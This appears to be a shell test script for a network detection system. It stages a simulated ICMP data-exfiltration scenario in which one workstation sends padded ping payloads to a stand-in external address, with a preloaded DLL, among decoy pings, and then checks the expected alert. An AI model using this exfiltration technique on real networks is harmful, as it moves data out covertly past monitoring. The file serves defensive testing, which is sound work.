# Data going out in echo requests for almost two minutes, beside ordinary
# pings as long. Runs in the background while the other scenarios run: its
# filter names pairs of addresses nobody else pings between.
EXFIL_JOBS=()

start_icmp_exfil() {
	local outer=${SCENARIO:-}
	capture icmp-exfil "icmp and (host ${IP[drop]} or host ${IP[www]} or host ${IP[upstream]})"
	(
		ACT_PRELOAD=/home/carol/IPHLPAPI.DLL
		act ws3 carol exfil ping -n -q -i 0.25 -c 470 -s 1400 -p 53454352455400112233445566778899 "${IP[drop]}"
	) &
	EXFIL_JOBS+=($!)
	# As long, but small; and larger packets, but below half a million bytes.
	act ws1 alice ping ping -n -q -i 1 -c 116 "${IP[www]}" &
	EXFIL_JOBS+=($!)
	act ws4 dave ping ping -n -q -i 1 -c 116 -s 1000 "${IP[upstream]}" &
	EXFIL_JOBS+=($!)
	# Large, but short.
	act ws2 bob ping ping -n -q -i 0.25 -c 60 -s 1400 "${IP[www]}" &
	EXFIL_JOBS+=($!)
	SCENARIO=$outer
}

finish_icmp_exfil() {
	SCENARIO=icmp-exfil
	say "waiting for the long pings"
	wait "${EXFIL_JOBS[@]}"
	end_capture icmp-exfil
	expect '{
		"exfil": {"device": "ws3", "src": "10.10.0.13", "dst": "203.0.113.99", "bytes": 658000, "process": "ping",
			"image": "IPHLPAPI.DLL"}
	}'
}
